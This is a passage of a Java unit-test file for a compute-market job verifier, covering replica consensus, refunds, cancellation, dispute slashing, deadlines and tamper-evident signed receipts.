        terms = terms(Strategy.K_OF_N, 2, 2, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(failed(w1, 0, 0, ResultStatus.OUTPUT_OVER_CAPS));
        Effects e = submit(failed(w2, 1, 0, ResultStatus.OUTPUT_OVER_CAPS));
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.FAILED);
        assertThat(v.getReason()).isEqualTo("OUTPUT_OVER_CAPS on 2 of 2 replicas: the job's own failure, the client pays the time measured");
        assertThat(v.getAgreeing()).containsExactly(w1.workerId(), w2.workerId());
        assertThat(v.getCostMicros()).as("the agreeing replicas' time is paid").isPositive();
        assertThat(balance(values(e, LedgerEntry.class), Accounts.worker(w1.workerId()))).isPositive();
    }

    @Test
    void outOfMemoryOnAMajorityDecidesTheJobAndTheReplicaThatDissentsIsAFailedOne() {
        terms = terms(Strategy.MAJORITY, 3, 0, 3);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        assign(w3, 2, 0);
        submit(failed(w1, 0, 0, ResultStatus.OUT_OF_MEMORY));
        submit(failed(w2, 1, 0, ResultStatus.TIMEOUT));
        Effects e = submit(failed(w3, 2, 0, ResultStatus.OUT_OF_MEMORY));
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.FAILED);
        assertThat(v.getReason()).startsWith("OUT_OF_MEMORY at 128 MiB on 2 of 3 replicas");
        assertThat(v.getAgreeing()).containsExactly(w1.workerId(), w3.workerId());
        assertThat(v.getDissenting()).containsExactly(w2.workerId());
        assertThat(balance(values(e, LedgerEntry.class), Accounts.worker(w2.workerId()))).isZero();
        assertThat(reputation(e)).containsExactlyInAnyOrderEntriesOf(Map.of(
                w1.workerId(), 5, w3.workerId(), 5, w2.workerId(), -5));
    }

    @Test
    void theMarketsFailuresAreRefundedInFullAndSaySo() {
        terms = terms(Strategy.K_OF_N, 3, 1, 3);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        assign(w3, 2, 0);
        assertThat(reputation(submit(failed(w1, 0, 0, ResultStatus.SANDBOX_ERROR)))).containsEntry(w1.workerId(), -5);
        submit(failed(w2, 1, 0, ResultStatus.IMAGE_MISSING));
        Effects e = command(CommandType.REPLICA_FAILED, 2, "lease expired after 3 attempts");
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.FAILED);
        assertThat(v.getReason()).isEqualTo("no valid result from 3 of 3 replicas (1 IMAGE_MISSING, 1 REPLICA_FAILED,"
                + " 1 SANDBOX_ERROR): the market's failure, all refunded");
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());
        assertThat(values(e, LedgerEntry.class)).extracting(LedgerEntry::getTransactionId).containsExactly("refund:job-1");
    }

    @Test
    void aFailedImagePullIsRefundedAndTheVerdictCarriesTheRegistrysMessage() {
        terms = terms(Strategy.K_OF_N, 2, 1, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        String why = "pull of localhost:5000/x@sha256:" + "0".repeat(64) + " failed: manifest unknown";
        submit(failedSaying(w1, 0, 0, ResultStatus.IMAGE_PULL_FAILED, why));
        JobVerdict v = single(submit(failedSaying(w2, 1, 0, ResultStatus.IMAGE_PULL_FAILED, why)), JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.FAILED);
        assertThat(v.getReason()).isEqualTo("no valid result from 2 of 2 replicas (2 IMAGE_PULL_FAILED): the market's failure,"
                + " all refunded; IMAGE_PULL_FAILED: " + why);
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());
    }

    @Test
    void disagreementWithNoEligibleWorkerLeftEndsNoConsensusAtOnceSayingWhyAndThatOutputsDiffer() {
        // the job printing its hostname: three replicas, three outputs, nobody left to break the tie
        terms = terms(Strategy.K_OF_N, 3, 2, 5);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        assign(w3, 2, 0);
        submit(result(w1, 0, 0, "host-1", 1_000));
        submit(result(w2, 1, 0, "host-2", 1_000));
        assertThat(single(submit(result(w3, 2, 0, "host-3", 1_000)), JobCommand.class).getType())
                .isEqualTo(CommandType.REQUEST_REPLICAS);
        String why = io.agora.market.Eligibility.NO_ELIGIBLE_WORKER + " in pool public (3 workers, 3 already ran a replica)";
        Effects e = command(CommandType.REPLICA_FAILED, 3, why);
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.NO_CONSENSUS);
        assertThat(v.getReason()).startsWith("no agreement among 3 votes (").contains("): agreement needs 1 more replicas and "
                + why + ", all refunded").endsWith("; the replicas' outputs differ: the job may not be deterministic");
        assertThat(values(e, JobCommand.class)).as("no more replicas asked for: there is nobody to run them").isEmpty();
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());
    }

    @Test
    void disagreementWithNoRoomForAnotherReplicaEndsNoConsensusAtOnceSayingWhy() {
        terms = terms(Strategy.K_OF_N, 2, 2, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(result(w1, 0, 0, A, 1_000));
        Effects e = submit(failed(w2, 1, 0, ResultStatus.TIMEOUT));
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.NO_CONSENSUS);
        assertThat(v.getReason()).isEqualTo("no agreement among 2 votes (1 TIMEOUT, 1 output " + hash(A).substring(0, 8)
                + "): agreement needs 1 more replicas and maxTotalResults 2 leaves no room, all refunded");
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());
        assertThat(values(e, JobCommand.class)).isEmpty();
        assertThat(reputation(e)).as("no consensus, nobody to score against").isEmpty();
    }

    // ---- cancel --------------------------------------------------------------------------

    @Test
    void cancelAfterTheFirstTaskRefundsEverythingOnce() {
        terms = terms(Strategy.K_OF_N, 2, 2, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(result(w1, 0, 0, A, 1_000));

        Effects e = command(CommandType.CANCEL, -1, null);
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.CANCELLED);
        assertThat(v.getRefundMicros()).as("no verdict, no payout").isEqualTo(terms.getEscrowMicros());
        assertThat(values(e, LedgerEntry.class)).extracting(LedgerEntry::getTransactionId).containsExactly("refund:job-1");
        assertThat(events(e)).extracting(JobEvent::getType).containsExactly(JobEventType.VERDICT, JobEventType.CANCELLED);

        Effects again = command(CommandType.CANCEL, -1, null);
        assertThat(again.out()).isEmpty();
        assertThat(again.changes().stateChanged()).isFalse();
        assertThat(submit(result(w2, 1, 0, A, 1_000)).out()).as("no consensus to score against").isEmpty();
    }

    @Test
    void cancelBeforeTheFirstTaskIsRememberedAppliedWhenItArrivesOrForgottenAfterItsTtl() {
        Effects e = command(CommandType.CANCEL, -1, null);
        assertThat(e.out()).isEmpty();
        assertThat(job.state().cancelRequested).isTrue();
        long ttlOver = now + cfg.pendingCancelTtl().toMillis();
        assertThat(e.changes().sweepAt()).isEqualTo(ttlOver);
        Job pending = job;

        e = assign(w1, 0, 0);
        assertThat(single(e, JobVerdict.class).getOutcome()).isEqualTo(Outcome.CANCELLED);
        assertThat(values(e, LedgerEntry.class)).extracting(LedgerEntry::getTransactionId).containsExactly("refund:job-1");
        assertThat(assign(w2, 1, 0).out()).isEmpty();

        job = pending; // the task never came
        assertThat(tick(ttlOver - 1).changes().stateChanged()).isFalse();
        e = tick(ttlOver);
        assertThat(e.out()).isEmpty();
        assertThat(e.changes().stateChanged()).isTrue();
        assertThat(job.state()).isNull();
        assertThat(e.changes().sweepAt()).isEqualTo(-1);
    }

    // ---- disputes ------------------------------------------------------------------------

    @Test
    void aDisputeWhoseReplicasAgreeOnAnotherOutputOverturnsTheConsensusAndSlashesTheOriginalWorkers() {
        JobVerdict verdict = agreeTwoOfTwo(4); // 2 dispute replicas fit in maxTotalResults
        now += 60_000;
        assertThat(command(CommandType.DISPUTE, -1, null).out()).as("the client's own request is admission's").isEmpty();
        assertThat(job.state().disputeFrom).isEqualTo(-1);
        Effects e = dispute(MarketRules.DISPUTE_FEE_MICROS);
        assertThat(stakeOrders(e)).as("the original workers' stakes are locked while the dispute is open")
                .containsOnlyKeys(w1.workerId(), w2.workerId())
                .allSatisfy((w, o) -> assertThat(o.getAction()).isEqualTo(io.agora.events.StakeAction.LOCK));
        JobCommand req = single(e, JobCommand.class);
        assertThat(req.getType()).isEqualTo(CommandType.REQUEST_REPLICAS);
        assertThat(req.getCount()).isEqualTo(2);
        assertThat(req.getReplica()).as("first dispute replica number").isEqualTo(2);
        assertThat(req.getExcludeWorkers()).containsExactlyInAnyOrder(w1.workerId(), w2.workerId());
        assertThat(single(e, JobEvent.class).getReason()).isEqualTo("opened: 2 dispute replicas from replica 2");
        assertThat(single(e, JobEvent.class).getConsensusHash()).as("not decided yet").isNull();
        assertThat(single(e, JobEvent.class).getDisputeReceipt()).as("no receipt before the decision").isNull();
        assertThat(values(e, LedgerEntry.class)).as("admission held the fee").isEmpty();
        List<LedgerEntry> fee = new ArrayList<>(List.of(held(MarketRules.DISPUTE_FEE_MICROS)));
        assertThat(e.changes().sweepAt()).as("decided at the deadline at the latest").isEqualTo(DEADLINE);
        Effects again = dispute(MarketRules.DISPUTE_FEE_MICROS);
        assertThat(single(again, JobEvent.class).getReason()).isEqualTo("refused: already disputed");
        assertThat(values(again, LedgerEntry.class)).as("a second hold had the first's transaction id: nothing to refund")
                .isEmpty();

        assign(w3, 2, 0);
        assign(w4, 3, 0);
        assertThat(events(submit(result(w3, 2, 0, B, 1_000)))).extracting(JobEvent::getType)
                .containsExactly(JobEventType.REPLICA_FINISHED);
        e = submit(result(w4, 3, 0, B, 1_000));
        assertThat(events(e)).extracting(JobEvent::getType)
                .containsExactly(JobEventType.REPLICA_FINISHED, JobEventType.DISPUTED);
        assertThat(events(e).get(1).getReason()).isEqualTo("overturned: dispute replicas agree on " + hash(B)
                + "; 2 original workers slashed, what they were paid reclaimed for the client");
        assertThat(events(e).get(1).getConsensusHash()).as("the verdict history ends on the dispute replicas' hash")
                .isEqualTo(hash(B));
        assertThat(reputation(e)).containsExactlyInAnyOrderEntriesOf(Map.of(
                w1.workerId(), -10, w2.workerId(), -10, w3.workerId(), 5, w4.workerId(), 5));
        Map<String, Long> paid = new java.util.HashMap<>();
        verdict.getReceipt().getPayouts().forEach(p -> paid.put(p.getWorkerId(), p.getMicros()));
        assertThat(paid).containsOnlyKeys(w1.workerId(), w2.workerId());
        Map<String, io.agora.events.StakeOrder> slashes = stakeOrders(e);
        assertThat(slashes).containsOnlyKeys(w1.workerId(), w2.workerId());
        slashes.forEach((w, o) -> {
            assertThat(o.getAction()).isEqualTo(io.agora.events.StakeAction.SLASH);
            assertThat(o.getClientId()).isEqualTo("client-1");
            assertThat(o.getReclaimMicros()).as("what the receipt says the verdict paid " + w).isEqualTo(paid.get(w));
            assertThat(o.getHonestWorkers()).containsExactlyInAnyOrder(w3.workerId(), w4.workerId());
        });
        assertThat(values(e, LedgerEntry.class)).as("the matcher's gate, which holds the stakes, posts the SLASH; the fee goes back")
                .extracting(LedgerEntry::getTransactionId).containsExactly("dispute-fee-refund:job-1");
        fee.addAll(values(e, LedgerEntry.class));
        assertDisputeFeeSettled(fee);
        assertThat(balance(fee, Accounts.client("client-1"))).as("overturned: the client paid no fee").isZero();
        io.agora.events.DisputeReceipt receipt = assertDisputeReceipt(events(e).get(1), single(e, LedgerEntry.class));
        assertThat(receipt.getOverturned()).isTrue();
        assertThat(receipt.getDecidedHash()).isEqualTo(hash(B));
        assertThat(receipt.getFeeRefundMicros()).isEqualTo(MarketRules.DISPUTE_FEE_MICROS);
        assertThat(receipt.getSlashed()).as("the workers the SLASH orders name").containsExactlyInAnyOrderElementsOf(slashes.keySet());
        assertThat(receipt.getHonestWorkers()).containsExactlyInAnyOrder(w3.workerId(), w4.workerId());
        assertThat(values(e, JobVerdict.class)).isEmpty();
        assertThat(e.changes().sweepAt()).isEqualTo(-1);
    }

    @Test
    void theSettlementReceiptIsSignedOnceEverySlashedWorkersResultIsInAndSaysWhatTheGateTook() {
        agreeTwoOfTwo(4);
        now += 60_000;
        dispute(MarketRules.DISPUTE_FEE_MICROS);
        assign(w3, 2, 0);
        assign(w4, 3, 0);
        submit(result(w3, 2, 0, B, 1_000));
        assertThat(events(submit(result(w4, 3, 0, B, 1_000)))).extracting(JobEvent::getReason)
                .anyMatch(r -> r.startsWith("overturned"));
        List<String> slashed = List.copyOf(job.state().agreeing);
        SlashTaken first = new SlashTaken(slashed.get(0), 800L, 5_000L, 2_000L,
                List.of(new SlashShare(w3.workerId(), 1_000L), new SlashShare(w4.workerId(), 1_000L)), 1_000L);
        SlashTaken second = new SlashTaken(slashed.get(1), 0L, 0L, 0L, List.of(), 0L); // it had bonded nothing

        now += 1_000;
        Effects e = slash(second);
        assertThat(e.out()).as("one slashed worker's result is not the settlement yet").isEmpty();
        assertThat(e.changes().stateChanged()).isTrue();
        assertThat(slash(second).changes().stateChanged()).as("the same result again changes nothing").isFalse();
        assertThat(slash(new SlashTaken(w3.workerId(), 0L, 0L, 0L, List.of(), 0L)).out()).singleElement()
                .isEqualTo(new DeadLetter("job-1", lastSlash, "worker " + w3.workerId() + " was not ordered slashed for job job-1"));
        assertThat(slash(new SlashTaken(slashed.get(1), 1L, 0L, 0L, List.of(), 0L)).out()).singleElement()
                .extracting(o -> ((DeadLetter) o).reason())
                .isEqualTo("a second, different slash result for worker " + slashed.get(1));

        now += 1_000;
        e = slash(first);
        JobEvent settled = single(e, JobEvent.class);
        assertThat(settled.getType()).isEqualTo(JobEventType.DISPUTED);
        assertThat(settled.getReason()).isEqualTo("settled: 2 slashes took 5800 micro-credits"
                + " (what the job paid them and part of their bonds)");
        SettlementReceipt r = settled.getSettlementReceipt();
        assertThat(Receipts.problems(r, market.workerId())).isEmpty();
        assertThat(r.getJobId()).isEqualTo("job-1");
        assertThat(r.getClientId()).isEqualTo("client-1");
        assertThat(r.getIssuedAt()).isEqualTo(Instant.ofEpochMilli(now));
        assertThat(r.getSlashes()).as("in the order the dispute receipt names the slashed workers").containsExactly(first, second);
        assertThat(e.out()).hasSize(1);
        assertThat(slash(first).out()).as("signed once").isEmpty();
        assertThat(job.state().settlementSigned).isTrue();
        assertThat(JobState.fromAvro(job.state().toAvro()).slashesTaken).as("kept across a restart").containsExactly(second, first);
    }

    @Test
    void aSlashResultNoOverturnedDisputeWaitsForIsDeadLettered() {
        agreeTwoOfTwo(4);
        SlashTaken t = new SlashTaken(w1.workerId(), 0L, 0L, 0L, List.of(), 0L);
        assertThat(slash(t).out()).singleElement().isEqualTo(new DeadLetter("job-1", lastSlash,
                "no overturned dispute of job job-1 ordered a slash"));
        assertThat(slash(new SlashTaken(w1.workerId(), -1L, 0L, 0L, List.of(), 0L)).out()).singleElement()
                .extracting(o -> ((DeadLetter) o).reason()).isEqualTo("out of bounds: reclaimMicros -1 is not in [0, "
                        + Long.MAX_VALUE + "]");
        job = Job.unseen("job-2");
        assertThat(slash(t).out()).singleElement().extracting(o -> ((DeadLetter) o).reason())
                .isEqualTo("no overturned dispute of job job-2 ordered a slash");
        assertThat(job.state()).as("a job never seen is not opened by a slash result").isNull();
    }

    @Test
    void aDisputeStillOpenAtTheDeadlineIsUpheldAndOneAfterTheWindowIsRefused() {
        agreeTwoOfTwo(4);
        List<LedgerEntry> fee = new ArrayList<>(List.of(held(MarketRules.DISPUTE_FEE_MICROS)));
        assertThat(values(dispute(MarketRules.DISPUTE_FEE_MICROS), LedgerEntry.class)).isEmpty();
        assertThat(command(CommandType.REPLICA_FAILED, 2, "job not running in the matcher").out()).isEmpty();
        assertThat(tick(DEADLINE - 1).out()).isEmpty();
        Effects e = tick(DEADLINE);
        assertThat(single(e, JobEvent.class).getReason()).isEqualTo("upheld");
        assertThat(single(e, JobEvent.class).getConsensusHash()).as("upheld: the verdict's hash stands").isNotNull();
        assertThat(reputation(e)).as("upheld: nobody's reputation moves")
                .containsExactlyInAnyOrderEntriesOf(Map.of(w1.workerId(), 0, w2.workerId(), 0));
        assertThat(stakeOrders(e)).containsOnlyKeys(w1.workerId(), w2.workerId())
                .allSatisfy((w, o) -> assertThat(o.getAction()).isEqualTo(io.agora.events.StakeAction.RELEASE));
        assertThat(e.out()).hasSize(4);
        assertThat(values(e, LedgerEntry.class)).extracting(LedgerEntry::getTransactionId)
                .containsExactly("dispute-fee-paid:job-1");
        fee.addAll(values(e, LedgerEntry.class));
        assertDisputeFeeSettled(fee);
        assertThat(balance(fee, Accounts.worker(w1.workerId())) + balance(fee, Accounts.worker(w2.workerId())))
                .as("no dispute replica confirmed: the original agreeing workers take the fee")
                .isEqualTo(MarketRules.DISPUTE_FEE_MICROS);
        assertThat(balance(fee, Accounts.worker(w1.workerId()))).isEqualTo(MarketRules.DISPUTE_FEE_MICROS / 2);

        job = Job.unseen("job-2");
        agreeTwoOfTwo(4);
        now += cfg.disputeWindow().toMillis() + 1;
        Effects late = dispute(MarketRules.DISPUTE_FEE_MICROS);
        assertThat(single(late, JobEvent.class).getReason())
                .isEqualTo("refused: dispute window closed; the dispute fee is refunded");
        List<LedgerEntry> refunded = new ArrayList<>(List.of(held(MarketRules.DISPUTE_FEE_MICROS)));
        refunded.addAll(values(late, LedgerEntry.class));
        assertThat(refunded).extracting(LedgerEntry::getTransactionId)
                .containsExactly("dispute-fee:job-2", "dispute-fee-refund:job-2");
        assertDisputeFeeSettled(refunded);
        assertThat(balance(refunded, Accounts.client("client-1"))).as("refused: the fee held comes back").isZero();
        assertThat(job.state().disputeFrom).isEqualTo(-1);
    }

    @Test
    void aDisputeIsDecidedWithTheFeeAdmissionHeldAcrossARestart() {
        agreeTwoOfTwo(4);
        now += 60_000;
        List<LedgerEntry> ledger = new ArrayList<>(List.of(held(MarketRules.DISPUTE_FEE_MICROS)));
        ledger.addAll(values(dispute(MarketRules.DISPUTE_FEE_MICROS), LedgerEntry.class));
        assertThat(job.state().disputeFeeMicros).isEqualTo(MarketRules.DISPUTE_FEE_MICROS);
        // the verifier restarts; the job's state is what the store kept
        job = new Job(job.jobId(), JobState.serde().deserializer().deserialize("t", job.state().toBytes()), job.tasks(),
                job.results(), job.orphans());
        cases = new JobCase(cfg, standings::get, market, matcher.workerId());
        assign(w3, 2, 0);
        assign(w4, 3, 0);
        ledger.addAll(values(submit(result(w3, 2, 0, A, 1_000)), LedgerEntry.class));
        ledger.addAll(values(submit(result(w4, 3, 0, A, 1_000)), LedgerEntry.class));
        assertThat(ledger).extracting(LedgerEntry::getTransactionId)
                .containsExactly("dispute-fee:job-1", "dispute-fee-paid:job-1");
        assertDisputeFeeSettled(ledger);
        assertThat(balance(ledger, Accounts.worker(w3.workerId())) + balance(ledger, Accounts.worker(w4.workerId())))
                .as("paid what was held").isEqualTo(MarketRules.DISPUTE_FEE_MICROS);

        job = Job.unseen("job-2"); // another fee held (the setting changed at admission) is refunded as held
        agreeTwoOfTwo(4);
        List<LedgerEntry> fee = new ArrayList<>(List.of(held(250_000)));
        fee.addAll(values(dispute(250_000), LedgerEntry.class));
        assign(w3, 2, 0);
        assign(w4, 3, 0);
        submit(result(w3, 2, 0, B, 1_000));
        fee.addAll(values(submit(result(w4, 3, 0, B, 1_000)), LedgerEntry.class));
        assertThat(fee).extracting(LedgerEntry::getTransactionId)
                .containsExactly("dispute-fee:job-2", "dispute-fee-refund:job-2");
        assertDisputeFeeSettled(fee);
        assertThat(balance(fee, Accounts.client("client-1"))).as("overturned: the 250,000 held came back").isZero();

        job = Job.unseen("job-3"); // a fee held for another client's job is refunded to who paid it
        agreeTwoOfTwo(4);
        Effects stranger = step(cases.onCommand(JobCommand.newBuilder().setEventId(UUID.randomUUID().toString())
                .setJobId(job.jobId()).setClientId("mallory").setType(CommandType.DISPUTE).setFeeHeldMicros(9)
                .setTimestamp(T0).build(), now, job));
        assertThat(single(stranger, JobEvent.class).getReason())
                .isEqualTo("refused: not the job's client; the dispute fee is refunded");
        assertThat(single(stranger, LedgerEntry.class).getPostings()).extracting(p -> p.getAccountId() + " " + p.getAmountMicros())
                .containsExactlyInAnyOrder(Accounts.disputeEscrow("job-3") + " -9", Accounts.client("mallory") + " 9");
    }

    @Test
    void aDisputeWhoseReplicasConfirmTheConsensusPaysTheFeeToThemOnce() {
        agreeTwoOfTwo(4);
        now += 60_000;
        List<LedgerEntry> ledger = new ArrayList<>(List.of(held(MarketRules.DISPUTE_FEE_MICROS)));
        ledger.addAll(values(dispute(MarketRules.DISPUTE_FEE_MICROS), LedgerEntry.class));
        assign(w3, 2, 0);
        assign(w4, 3, 0);
        ledger.addAll(values(submit(result(w3, 2, 0, A, 1_000)), LedgerEntry.class));
        Effects e = submit(result(w4, 3, 0, A, 1_000));
        assertThat(events(e)).extracting(JobEvent::getReason).endsWith("upheld");
        assertThat(keys(e, LedgerEntry.class)).containsExactly("client-1");
        ledger.addAll(values(e, LedgerEntry.class));
        assertThat(ledger).extracting(LedgerEntry::getTransactionId)
                .containsExactly("dispute-fee:job-1", "dispute-fee-paid:job-1");
        assertDisputeFeeSettled(ledger);
        assertThat(balance(ledger, Accounts.client("client-1"))).isEqualTo(-MarketRules.DISPUTE_FEE_MICROS);
        assertThat(balance(ledger, Accounts.worker(w3.workerId()))).isEqualTo(MarketRules.DISPUTE_FEE_MICROS / 2);
        assertThat(balance(ledger, Accounts.worker(w4.workerId()))).isEqualTo(MarketRules.DISPUTE_FEE_MICROS / 2);
        assertThat(balance(ledger, Accounts.worker(w1.workerId()))).as("the original workers were paid by the verdict").isZero();
        io.agora.events.DisputeReceipt receipt = assertDisputeReceipt(events(e).get(events(e).size() - 1),
                single(e, LedgerEntry.class));
        assertThat(receipt.getOverturned()).isFalse();
        assertThat(receipt.getFeeRefundMicros()).isZero();
        assertThat(receipt.getFeePayouts()).extracting(io.agora.events.DisputeFeePayout::getWorkerId)
                .containsExactlyInAnyOrder(w3.workerId(), w4.workerId());
        assertThat(receipt.getSlashed()).isEmpty();

        // a redelivered result, a late failure report and the deadline move no more money
        assertThat(values(submit(result(w4, 3, 0, A, 1_000)), LedgerEntry.class)).isEmpty();
        assertThat(values(command(CommandType.REPLICA_FAILED, 3, "late"), LedgerEntry.class)).isEmpty();
        assertThat(tick(DEADLINE).out()).isEmpty();
        assertThat(single(dispute(MarketRules.DISPUTE_FEE_MICROS), JobEvent.class).getReason())
                .isEqualTo("refused: already disputed");
    }

    // ---- the wall clock ------------------------------------------------------------------

    @Test
    void theDeadlineExpiresAnOpenJobWithAFullRefund() {
        terms = terms(Strategy.K_OF_N, 2, 2, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(result(w1, 0, 0, A, 1_000));
        assertThat(tick(DEADLINE - 1).out()).isEmpty();

        Effects e = tick(DEADLINE);
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.EXPIRED);
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());
        assertBalancedAndEscrowEmptied(values(e, LedgerEntry.class));
        assertThat(events(e)).extracting(JobEvent::getType).containsExactly(JobEventType.VERDICT, JobEventType.EXPIRED);
        assertThat(e.changes().sweepAt()).isEqualTo(-1);
        assertThat(tick(DEADLINE + 10_000).out()).isEmpty();
    }

    @Test
    void aDecidedJobIsRetiredAfterItsRetentionAndALaterResultFindsNoTask() {
        agreeTwoOfTwo(2);
        long retireAt = DEADLINE + cfg.retention().toMillis();
        assertThat(job.tasks()).hasSize(2);
        assertThat(command(CommandType.CANCEL, -1, null).out()).as("a decided job ignores a CANCEL").isEmpty();
        assertThat(tick(retireAt - 1).changes().stateChanged()).isFalse();

        Effects e = tick(retireAt);
        assertThat(e.out()).isEmpty();
        assertThat(e.changes().stateChanged()).isTrue();
        assertThat(e.changes().state()).isNull();
        assertThat(job.tasks()).as("dropped with the job").isEmpty();
        assertThat(job.results()).isEmpty();

        e = submit(result(w1, 0, 0, A, 1_000));
        assertThat(e.out()).isEmpty();
        assertThat(e.changes().orphansAdded()).hasSize(1);
    }

    @Test
    void theCaseNeverChangesTheJobItIsGiven() {
        assign(w1, 0, 0);
        Job before = job;
        Effects e = cases.onResult(result(w1, 0, 0, A, 1_000), now, before);
        assertThat(e.changes().state().counted).containsExactly("job-1/0/0");
        assertThat(before.state().counted).isEmpty();
        assertThat(before.results()).isEmpty();
    }

    // ---- receipts ------------------------------------------------------------------------

    @Test
    void everyOutcomeCarriesAReceiptSignedByTheMarketThatSaysWhatThePostingsSay() {
        terms = terms(Strategy.K_OF_N, 2, 2, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(result(w1, 0, 0, A, 1_000));
        submit(result(w2, 1, 0, A, 2_000));

        job = Job.unseen("job-failed");
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(failed(w1, 0, 0, ResultStatus.TIMEOUT));
        submit(failed(w2, 1, 0, ResultStatus.TIMEOUT));

        job = Job.unseen("job-split");
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(result(w1, 0, 0, A, 1_000));
        submit(result(w2, 1, 0, B, 1_000));

        job = Job.unseen("job-late");
        assign(w1, 0, 0);
        tick(DEADLINE + 1);

        job = Job.unseen("job-cancelled");
        assign(w1, 0, 0);
        command(CommandType.CANCEL, 0, "changed my mind");

        assertThat(verdicts).extracting(JobVerdict::getOutcome).containsExactly(
                Outcome.COMPLETED, Outcome.FAILED, Outcome.NO_CONSENSUS, Outcome.EXPIRED, Outcome.CANCELLED);
        Receipt completed = verdicts.get(0).getReceipt();
        assertThat(completed.getAgreedHash()).isEqualTo(hash(A));
        assertThat(completed.getPayouts()).extracting(ReceiptPayout::getWorkerId).containsExactly(w1.workerId(), w2.workerId());
        assertThat(completed.getPayouts()).extracting(ReceiptPayout::getMicros).containsExactly(100L, 200L);
        assertThat(verdicts.get(1).getReceipt().getPayouts()).as("the job's own timeout: the client pays the time").hasSize(2);
        for (JobVerdict v : verdicts.subList(2, 5)) {
            assertThat(v.getReceipt().getPayouts()).as(v.getOutcome().name()).isEmpty();
            assertThat(v.getReceipt().getRefundMicros()).isEqualTo(terms.getEscrowMicros());
        }
        assertThat(verdicts).allSatisfy(v -> assertThat(v.getReceipt().getMarketKey()).isEqualTo(market.workerId()));
    }

    @Test
    void aReceiptWithAPayoutRaisedByOneNoLongerVerifies() {
        agreeTwoOfTwo(2);
        Receipt tampered = Receipt.newBuilder(verdicts.get(0).getReceipt()).build();
        ReceiptPayout first = tampered.getPayouts().get(0);
        first.setMicros(first.getMicros() + 1);
        tampered.setRefundMicros(tampered.getRefundMicros() - 1);
        assertThat(Receipts.problems(tampered, market.workerId())).isNotEmpty();
        assertThat(Receipts.problems(verdicts.get(0).getReceipt(), market.workerId())).isEmpty();
    }

    /**
     * A decided dispute's receipt is signed by the market, names the decision's hash, and its fee legs are exactly the
     * DISPUTE_FEE posting's; tampering with one breaks the signature.
     */
    private io.agora.events.DisputeReceipt assertDisputeReceipt(JobEvent decided, LedgerEntry fee) {
        io.agora.events.DisputeReceipt r = decided.getDisputeReceipt();
        assertThat(r).isNotNull();
        assertThat(Receipts.problems(r, market.workerId())).isEmpty();
        assertThat(r.getJobId()).isEqualTo(job.jobId());
        assertThat(r.getDecidedHash()).isEqualTo(decided.getConsensusHash());
        assertThat(r.getFeeMicros()).isEqualTo(job.state().disputeFeeMicros);
        Map<String, Long> legs = new java.util.HashMap<>();
        r.getFeePayouts().forEach(p -> legs.merge(Accounts.worker(p.getWorkerId()), p.getMicros(), Long::sum));
        if (r.getFeeRefundMicros() != 0) {
            legs.put(Accounts.client(r.getClientId()), r.getFeeRefundMicros());
        }
        legs.put(Accounts.disputeEscrow(job.jobId()), -r.getFeeMicros());
        Map<String, Long> posted = new java.util.HashMap<>();
        fee.getPostings().forEach(p -> posted.merge(p.getAccountId(), p.getAmountMicros(), Long::sum));
        assertThat(legs).as("the receipt's amounts are the posting's").isEqualTo(posted);
        io.agora.events.DisputeReceipt tampered = io.agora.events.DisputeReceipt.newBuilder(r)
                .setOverturned(!r.getOverturned()).build();
        assertThat(Receipts.problems(tampered, market.workerId())).isNotEmpty();
        return r;
    }

    /** The receipt is signed by the market, says what the verdict says, and each amount is the posting's. */
    private void assertReceiptAgrees(JobVerdict v, List<LedgerEntry> entries) {
        Receipt r = v.getReceipt();
        assertThat(r).as("every verdict carries a receipt").isNotNull();
        assertThat(Receipts.problems(r, market.workerId())).isEmpty();
        assertThat(r.getJobId()).isEqualTo(v.getJobId());
        assertThat(r.getClientId()).isEqualTo(v.getClientId());
        assertThat(r.getOutcome()).isEqualTo(v.getOutcome());
        assertThat(r.getAgreedHash()).isEqualTo(v.getConsensusHash());
        assertThat(r.getIssuedAt()).isEqualTo(v.getDecidedAt());
        assertThat(r.getEscrowMicros()).isEqualTo(terms.getEscrowMicros());
        assertThat(r.getRefundMicros()).isEqualTo(v.getRefundMicros())
                .isEqualTo(balance(entries, Accounts.client(v.getClientId())));
        assertThat(r.getPayouts().stream().mapToLong(ReceiptPayout::getMicros).sum()).isEqualTo(v.getCostMicros());
        List<LedgerEntry> payouts = entries.stream().filter(x -> x.getKind() == io.agora.events.EntryKind.PAYOUT).toList();
        assertThat(r.getPayouts()).hasSameSizeAs(payouts);
        for (ReceiptPayout p : r.getPayouts()) {
            assertThat(p.getMicros()).as("payout to " + p.getWorkerId()).isPositive()
                    .isEqualTo(balance(payouts, Accounts.worker(p.getWorkerId())));
        }
    }

    // ---- steps -----------------------------------------------------------------------------

    private Effects step(Effects e) {
        for (JobVerdict v : values(e, JobVerdict.class)) {
            assertReceiptAgrees(v, values(e, LedgerEntry.class));
            verdicts.add(v);
        }
        job = job.after(e.changes());
        return e;
